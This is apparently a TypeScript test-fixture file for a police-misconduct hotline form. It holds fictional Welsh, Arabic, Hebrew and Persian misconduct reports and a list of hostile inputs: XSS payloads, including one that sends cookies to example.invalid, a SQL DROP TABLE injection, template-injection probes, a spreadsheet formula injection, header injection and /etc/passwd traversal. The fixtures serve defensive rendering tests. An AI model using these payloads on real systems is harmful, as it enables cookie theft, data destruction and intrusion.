/** Whole reports in Welsh about a man in the police, by hotline category; his name and town are put in. */
export const welsh: readonly { category: string; say: readonly string[] }[] = [
  {
    category: 'INFO_FOR_GAIN',
    say: [
      'Mae {NAME}, swyddog yng ngorsaf {TOWN}, yn rhoi gwybodaeth i werthwr cyffuriau lleol.',
      'Bob tro y mae’r heddlu’n paratoi cyrch, mae’r tŷ yn wag erbyn y bore.',
      'Gwelais ef yn derbyn arian mewn amlen y tu ôl i’r dafarn.',
      'Nid wyf am roi fy enw gan fod pawb yn adnabod ei gilydd yma.',
      'Mae hyn wedi bod yn digwydd ers o leiaf blwyddyn.',
    ],
  },
  {
    category: 'PARTNER_ABUSE_CONTROL',
    say: [
      'Rwy’n poeni am wraig {NAME}, sydd yn yr heddlu yn {TOWN}.',
      'Nid yw hi’n cael gweld ei theulu, ac mae’n gwirio ei ffôn bob nos.',
      'Clywais weiddi o’r tŷ a gwelais gleisiau ar ei braich.',
      'Dywedodd wrthi na fyddai neb yn ei chredu am mai ef yw’r gyfraith.',
      'Mae dau blentyn bach yn y tŷ. Ŵyr neb faint maen nhw wedi ei weld.',
    ],
  },
  {
    category: 'POSITION_FOR_ADVANTAGE',
    say: [
      'Cafodd {NAME} arian gan gwmni tynnu ceir am anfon gwaith atynt ar ôl damweiniau ger {TOWN}.',
      'Mae’r cwmni’n cyrraedd cyn yr ambiwlans bob tro.',
      'Roedd y bil dros £600, a doedd gen i ddim dewis.',
      'Mae gŵr arall o’r pentref yn dweud yr un peth.',
      'Gofynnaf ichi ymchwilio i’w gyfrif banc.',
    ],
  },
  {
    category: 'SEXUAL_BOUNDARY',
    say: [
      'Mae {NAME} yn anfon negeseuon hwyr y nos at ferch bymtheg oed y cyfarfu â hi yn yr ysgol yn {TOWN}.',
      'Dywedodd wrthi am ddileu popeth.',
      'Mae ei ffrind wedi cadw lluniau o’r negeseuon.',
      'Nid yw ei rhieni’n gwybod eto, ac mae hi’n ofnus iawn.',
      'Bŵts newydd a ffôn oedd yr anrhegion diwethaf. Ŷch chi’n gallu helpu cyn ei bod hi’n rhy hwyr?',
    ],
  },
  {
    category: 'VIOLENCE',
    say: [
      'Yn ystafell y ddalfa yn {TOWN}, trawodd {NAME} ddyn ifanc a oedd mewn gefynnau.',
      'Dywedwyd wedyn ei fod wedi syrthio.',
      '“Fel ŵyn i’r lladdfa,” meddai un o’r swyddogion, a chwerthin.',
      'Mae’r camera’n siŵr o ddangos y cyfan os nad yw wedi ei ddileu.',
      'Bu yn yr ysbyty am dair noson gyda’i asennau wedi torri.',
    ],
  },
  {
    category: 'HATE_PREJUDICE',
    say: [
      'Mae {NAME} yn gwneud hwyl am ben pobl sy’n siarad Cymraeg neu sydd â chroen tywyll.',
      'Mae grŵp ar WhatsApp lle mae’r jôcs yn cael eu rhannu bob dydd.',
      'Gwn am ddau swyddog yn {TOWN} sydd wedi gofyn am gael symud.',
      'Nid yw’r rhingyll yn gwneud dim, er ei fod yntau’n aelod.',
      'Ni all neb ddweud dim heb gael ei gosbi. Mae hyd yn oed waliau’r tŷ bach yn llawn sloganau.',
    ],
  },
];

/** Paragraphs written from right to left, as part of reports that are otherwise in English. */
export const rightToLeft: readonly string[] = [
  'هذا الشرطي يهدد زوجته كل ليلة ويقول لها إن أحداً لن يصدقها لأنه من الشرطة. نحن الجيران نسمع كل شيء ونخاف على الأطفال.',
  'أخذ الضابط المال من البيت أثناء التفتيش ولم يكتب ذلك في المحضر. كان المبلغ 750 جنيهاً في صندوق تحت السرير.',
  'أرجو ألا تذكروا اسمي. الضابط يعرف كل الناس في الحي، وقد أوقف ابني خمس مرات هذا الشهر دون سبب.',
  'השוטר הזה מוכר מידע לאנשים שמסוכנים לנו. הוא סיפר להם מי התלונן, ולמחרת שברו לנו את החלונות.',
  'אני מפחדת לדבר עם המשטרה כאן כי כולם חברים שלו. הוא מתקשר אליי בלילה מהמספר 07700 900461 ומנתק.',
  'این مأمور پلیس از من پول خواست و گفت اگر ندهم پرونده‌ام را خراب می‌کند. پیام‌هایش را نگه داشته‌ام.',
];

/** What hostile or careless senders put into a form; a screen must show it as plain text. */
export const hostile: readonly string[] = [
  '<script>alert("police")</script>',
  '<img src=x onerror="fetch(\'https://example.invalid/\'+document.cookie)">',
  "Robert'); DROP TABLE reports;--",
  '${7*7} {{constructor.constructor("return process")()}} #{1+1} <%= 7*7 %>',
  'A' + 'a'.repeat(180) + 'rgh',
  'H̷̡̛͈̪e̴̢̹͌̀ ̵͎̈́k̸̰͋n̶̦̈o̷͚͠w̸͙̾s̵̱̿ ̶͖͝y̵̧̛o̸̘͆ủ̶̱ ̷̜͑k̴̞̓n̶̰̐o̸̭̓w̷̱̋',
  'The file was called \u202Egpj.tnemetats\u202C and \u2066mixed\u2069 text follows.',
  '<a href="javascript:alert(1)">click here for the evidence</a> <iframe src="//example.invalid"></iframe>',
  '"><svg onload=alert(1)> </textarea><style>*{display:none}</style>',
  '=HYPERLINK("http://example.invalid","statement") \t+44 @SUM(1+1)',
  'zero\u200Bwidth\u200Bspaces, soft\u00ADhyphens and a feed\fin between',
  '%00%0d%0aSet-Cookie: a=b ../../../../etc/passwd [link](javascript:alert(1))',
];

export const emoji = ['😡', '🙏', '🚔', '💷', '😔', '👮🏽‍♂️', '⚠️', '🤬', '👀', '🏴󠁧󠁢󠁷󠁬󠁳󠁿', '💔'] as const;
